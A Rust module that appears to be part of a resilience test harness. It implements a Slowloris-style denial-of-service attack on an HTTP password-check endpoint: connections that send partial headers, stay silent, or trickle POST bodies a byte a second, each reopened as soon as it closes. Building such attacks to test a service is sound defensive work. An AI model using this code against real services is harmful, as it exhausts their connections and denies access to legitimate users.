//! The attack: one process holding as many connections to the service as
//! it is told, none of which ever finishes its request, and opening again
//! at once each one the service closes. It runs on a runtime of its own,
//! so that its thousands of tasks do not delay the logins being measured.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::runtime::Runtime;
use tokio::sync::watch;
use tokio::task::JoinHandle;

/// A request line and one header, and never the blank line that ends them.
const PARTIAL_HEADERS: &[u8] = b"GET /example.com/check_password?user=x HTTP/1.1\r\nHost: a\r\n";

/// The body a trickling POST announces, of which it sends a byte a second.
const TRICKLED_BODY: usize = 200;

/// The pause after a failed connect, so that a refusal does not become a spin.
const RETRY_PAUSE: Duration = Duration::from_millis(100);

#[derive(Clone, Copy)]
enum Kind {
    /// Sends [`PARTIAL_HEADERS`], then nothing.
    PartialHeaders,
    /// Sends nothing at all.
    Silent,
    /// Sends whole headers, then its body a byte a second.
    Trickle,
}

#[derive(Default)]
struct Counts {
    /// Connected, as this process sees them: those the service has not
    /// accepted yet wait in its kernel's queue, and count too.
    open: AtomicUsize,
    /// Connections the service closed, each opened again at once.
    reopens: AtomicU64,
    connect_failures: AtomicU64,
    first_failure: Mutex<Option<String>>,
}

impl Counts {
    fn failed(&self, error: std::io::Error) {
        self.connect_failures.fetch_add(1, Ordering::Relaxed);
        let mut first = self.first_failure.lock().unwrap_or_else(|e| e.into_inner());
        first.get_or_insert_with(|| error.to_string());
    }
}

pub struct Attack {
    counts: Arc<Counts>,
    stop: watch::Sender<bool>,
    tasks: Vec<JoinHandle<()>>,
    runtime: Runtime,
    pub target: usize,
}

impl Attack {
    /// Starts `idle` connections that never finish their headers (half
    /// with part of them, half silent) and `trickle` POSTs. The POSTs carry
    /// `authorization` (the value of a Basic `Authorization` header): on
    /// the default configuration, which asks for no credentials, anyone
    /// could send them, and without them the service would answer 401
    /// before reading the body.
    pub fn start(address: SocketAddr, idle: usize, trickle: usize, authorization: &str) -> Attack {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .thread_name("attack")
            .enable_all()
            .build()
            .expect("the attack's runtime");
        let counts = Arc::new(Counts::default());
        let (stop, stopping) = watch::channel(false);
        let post: Arc<[u8]> = format!(
            "POST /example.com/check_password HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {authorization}\r\n\
Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {TRICKLED_BODY}\r\n\r\n"
        )
        .into_bytes()
        .into();
        let kinds = (0..idle)
            .map(|i| if i % 2 == 0 { Kind::PartialHeaders } else { Kind::Silent })
            .chain(std::iter::repeat_n(Kind::Trickle, trickle));
        let tasks = kinds
            .map(|kind| {
                let opening: Arc<[u8]> = match kind {
                    Kind::PartialHeaders => PARTIAL_HEADERS.into(),
                    Kind::Silent => Arc::new([]),
                    Kind::Trickle => post.clone(),
                };
                runtime.spawn(hold(kind, opening, address, counts.clone(), stopping.clone()))
            })
            .collect();
        Attack { counts, stop, tasks, runtime, target: idle + trickle }
    }

    /// Connections open now, accepted by the service or queued for it.
    pub fn open(&self) -> usize {
        self.counts.open.load(Ordering::Relaxed)
    }

    pub fn reopens(&self) -> u64 {
        self.counts.reopens.load(Ordering::Relaxed)
    }

    /// How many connects failed, and why the first did.
    pub fn connect_failures(&self) -> (u64, Option<String>) {
        let first = self.counts.first_failure.lock().unwrap_or_else(|e| e.into_inner()).clone();
        (self.counts.connect_failures.load(Ordering::Relaxed), first)
    }

    /// Closes every connection, and returns once all are closed.
    pub async fn stop(self) {
        self.stop.send_replace(true);
        for task in self.tasks {
            task.await.expect("an attack task panicked");
        }
        self.runtime.shutdown_background();
    }
}

/// One connection of `kind` at a time, opened again whenever the service
/// closes it, until `stopping`.
async fn hold(
    kind: Kind,
    opening: Arc<[u8]>,
    address: SocketAddr,
    counts: Arc<Counts>,
    mut stopping: watch::Receiver<bool>,
) {
    loop {
        let connected = tokio::select! {
            connected = TcpStream::connect(address) => connected,
            _ = stopping.wait_for(|&stop| stop) => return,
        };
        let mut stream = match connected {
            Ok(stream) => stream,
            Err(error) => {
                counts.failed(error);
                tokio::time::sleep(RETRY_PAUSE).await;
                continue;
            }
        };
        counts.open.fetch_add(1, Ordering::Relaxed);
        let closed_by_service = tokio::select! {
            () = occupy(kind, &opening, &mut stream) => true,
            _ = stopping.wait_for(|&stop| stop) => false,
        };
        counts.open.fetch_sub(1, Ordering::Relaxed);
        if !closed_by_service {
            return;
        }
        counts.reopens.fetch_add(1, Ordering::Relaxed);
    }
}

/// Sends `opening`, then (for a trickle) a byte a second, and returns when
/// the service closes the connection or refuses a write.
async fn occupy(kind: Kind, opening: &[u8], stream: &mut TcpStream) {
    let (mut reader, mut writer) = stream.split();
    if writer.write_all(opening).await.is_err() {
        return;
    }
    let trickling = async {
        if let Kind::Trickle = kind {
            for _ in 0..TRICKLED_BODY {
                tokio::time::sleep(Duration::from_secs(1)).await;
                if writer.write_all(b"x").await.is_err() {
                    return;
                }
            }
        }
        // Whole or never sent: all that is left is to wait for the answer.
        std::future::pending::<()>().await
    };
    // An answer (a 408, say) is read and ignored: only the close counts.
    let closing = async {
        let mut buffer = [0u8; 512];
        while let Ok(1..) = reader.read(&mut buffer).await {}
    };
    tokio::select! {
        () = trickling => {}
        () = closing => {}
    }
}

/// Raises this process's soft limit on open files to its hard limit, so
/// that it can hold the attack's connections; the limit now in force.
pub fn raise_open_files_limit() -> std::io::Result<u64> {
    rlimit::increase_nofile_limit(u64::MAX)
}
